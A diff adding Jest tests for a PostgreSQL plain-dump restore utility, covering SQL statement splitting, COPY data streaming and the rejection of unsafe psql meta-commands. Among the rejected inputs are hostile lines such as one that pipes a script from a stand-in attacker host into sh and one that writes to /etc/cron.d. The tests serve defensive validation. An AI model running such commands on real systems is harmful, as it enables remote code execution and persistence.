@@ -0,0 +1,186 @@
+/**
+ * Plain Restore Tests
+ * Tests for splitting plain dumps into statements and running them
+ */
+
+jest.mock('pg', () => ({ Client: jest.fn() }));
+jest.mock('pg-copy-streams', () => ({ from: jest.fn((sql) => ({ copySql: sql })) }));
+
+const { Readable, Writable } = require('stream');
+const { Client } = require('pg');
+const { createSqlSplitter, restorePlainDump } = require('../../utils/plainRestore');
+
+describe('plainRestore', () => {
+  // Split text fed in chunks of a size; COPY data is joined up as it is chunk-dependent
+  const split = (text, chunkSize = text.length) => {
+    const splitter = createSqlSplitter();
+    const events = [];
+    for (let i = 0; i < text.length; i += chunkSize) events.push(...splitter.push(text.slice(i, i + chunkSize)));
+    events.push(...splitter.end());
+
+    return events.reduce((merged, event) => {
+      const last = merged[merged.length - 1];
+      if (event.type === 'copy-data' && last && last[0] === 'copy-data') {
+        last[1] += event.text;
+      } else {
+        merged.push(event.type === 'copy-end' ? [event.type] : [event.type, event.text]);
+      }
+      return merged;
+    }, []);
+  };
+
+  describe('createSqlSplitter', () => {
+    it('should keep semicolons in quotes, comments and function bodies within their statement', () => {
+      const dump = [
+        "INSERT INTO notes VALUES (1, 'a; b', E'it\\'s; fine', \"odd;name\");",
+        'CREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; $body$ LANGUAGE sql;',
+        'CREATE PROCEDURE p() BEGIN ATOMIC SELECT 1; SELECT 2; END;',
+        '/* a; /* nested; */ still; */ SELECT 2;',
+        '-- trailing; comment',
+        ''
+      ].join('\n');
+      const statements = [
+        "INSERT INTO notes VALUES (1, 'a; b', E'it\\'s; fine', \"odd;name\");",
+        '\nCREATE FUNCTION f() RETURNS int AS $body$ SELECT 1; $body$ LANGUAGE sql;',
+        '\nCREATE PROCEDURE p() BEGIN ATOMIC SELECT 1; SELECT 2; END;',
+        '\n/* a; /* nested; */ still; */ SELECT 2;'
+      ].map(text => ['statement', text]);
+
+      for (const chunkSize of [1, 3, 7, dump.length]) {
+        expect(split(dump, chunkSize)).toEqual(statements);
+      }
+    });
+
+    it('should pass COPY data through and skip pg_dump restrict lines however the dump is chunked', () => {
+      const dump = [
+        '\\restrict abc123',
+        'COPY public.notes (id, body) FROM stdin;',
+        '1\t\\N',
+        '2\t\\\\connect is just text here',
+        '\\.',
+        'SELECT 1;',
+        '\\unrestrict abc123',
+        ''
+      ].join('\n');
+
+      for (const chunkSize of [1, 3, 7, dump.length]) {
+        expect(split(dump, chunkSize)).toEqual([
+          ['copy', 'COPY public.notes (id, body) FROM stdin;'],
+          ['copy-data', '1\t\\N\n2\t\\\\connect is just text here\n'],
+          ['copy-end'],
+          ['statement', 'SELECT 1;']
+        ]);
+      }
+    });
+
+    it('should refuse meta-commands on lines of their own and in the middle of a line', () => {
+      expect(() => split('SELECT 1;\n\\connect other_db\n', 4)).toThrow('psql meta-command that is not allowed');
+      expect(() => split('SELECT 1; \\! curl http://attacker | sh\n')).toThrow(expect.objectContaining({ code: 'UNSAFE_DUMP' }));
+      expect(() => split('CREATE TABLE t(); \\o /etc/cron.d/job\n')).toThrow(expect.objectContaining({ code: 'UNSAFE_DUMP' }));
+      expect(() => split('\\restrict abc123; \\! id\n')).toThrow(expect.objectContaining({ code: 'UNSAFE_DUMP' }));
+    });
+
+    it('should not take a COPY line inside quotes or an unfinished statement for COPY data', () => {
+      const unsafe = [
+        'SELECT $$\nCOPY t FROM stdin;\n$$;\n\\! id\n',
+        "SELECT '\nCOPY t FROM stdin;\n';\n\\! id\n",
+        '(COPY t FROM stdin;\n\\! id\n',
+        '/*/* */ */ \\! id\n',
+        '-- comment\r\\! id\n'
+      ];
+
+      for (const dump of unsafe) {
+        expect(() => split(dump, 2)).toThrow(expect.objectContaining({ code: 'UNSAFE_DUMP' }));
+      }
+    });
+
+    it('should let backslashes escape quotes only in E strings or with standard_conforming_strings off', () => {
+      expect(split("SELECT 'C:\\';\nSELECT 2;\n")).toEqual([
+        ['statement', "SELECT 'C:\\';"],
+        ['statement', '\nSELECT 2;']
+      ]);
+      expect(split("SET standard_conforming_strings = off;\nSELECT 'it\\'s; fine';\n")[1])
+        .toEqual(['statement', "\nSELECT 'it\\'s; fine';"]);
+    });
+  });
+
+  describe('restorePlainDump', () => {
+    let client;
+    const connection = { database: 'facility_mh_001_20261019101500', host: 'db', port: 5432, user: 'restorer', password: 'secret' };
+
+    const fakeCopyStream = () => {
+      const data = [];
+      const stream = new Writable({
+        write(chunk, encoding, callback) {
+          data.push(chunk);
+          callback();
+        }
+      });
+      stream.received = () => Buffer.concat(data).toString();
+      return stream;
+    };
+
+    beforeEach(() => {
+      jest.clearAllMocks();
+      client = {
+        connect: jest.fn().mockResolvedValue(),
+        end: jest.fn().mockResolvedValue(),
+        on: jest.fn(),
+        copies: [],
+        query: jest.fn((query) => {
+          if (query.copySql) {
+            const stream = fakeCopyStream();
+            client.copies.push(stream);
+            return stream;
+          }
+          return Promise.resolve({ rows: [] });
+        })
+      };
+      Client.mockImplementation(() => client);
+    });
+
+    it('should run statements and stream COPY data in the dump\'s encoding', async () => {
+      const dump = Buffer.from([
+        "SET client_encoding = 'LATIN1';",
+        'CREATE TABLE public.notes (body text);',
+        'ALTER TABLE public.notes OWNER TO emr_admin;',
+        'COPY public.notes (body) FROM stdin;',
+        'caf\u00e9',
+        '\\.',
+        "INSERT INTO public.notes VALUES ('na\u00efve');",
+        ''
+      ].join('\n'), 'latin1');
+
+      expect(await restorePlainDump(Readable.from([dump.subarray(0, 50), dump.subarray(50)]), connection)).toEqual({ warnings: '' });
+
+      expect(Client).toHaveBeenCalledWith(expect.objectContaining({ database: connection.database, user: 'restorer' }));
+      expect(client.query.mock.calls.map(([query]) => query.copySql || query)).toEqual([
+        '\nCREATE TABLE public.notes (body text);',
+        '\nCOPY public.notes (body) FROM stdin;',
+        "INSERT INTO public.notes VALUES ('na\u00efve');"
+      ]);
+      expect(client.copies[0].received()).toBe('caf\u00e9\n');
+      expect(client.end).toHaveBeenCalled();
+    });
+
+    it('should report the failing statement', async () => {
+      client.query.mockRejectedValueOnce(Object.assign(new Error('relation "visits" does not exist'), { severity: 'ERROR' }));
+
+      await expect(restorePlainDump(Readable.from([Buffer.from('SELECT * FROM visits;\n')]), connection))
+        .rejects.toEqual(expect.objectContaining({
+          code: 'RESTORE_FAILED',
+          message: 'Statement failed: relation "visits" does not exist',
+          stderr: 'ERROR:  relation "visits" does not exist\nSTATEMENT:  SELECT * FROM visits;\n'
+        }));
+      expect(client.end).toHaveBeenCalled();
+    });
+
+    it('should stop at a meta-command without running it', async () => {
+      const dump = Buffer.from('CREATE TABLE t (id int);\nSELECT 1; \\! touch /tmp/owned\n');
+
+      await expect(restorePlainDump(Readable.from([dump]), connection))
+        .rejects.toEqual(expect.objectContaining({ code: 'UNSAFE_DUMP' }));
+      expect(client.query.mock.calls.map(([query]) => query)).not.toContainEqual(expect.stringContaining('\\!'));
+    });
+  });
+});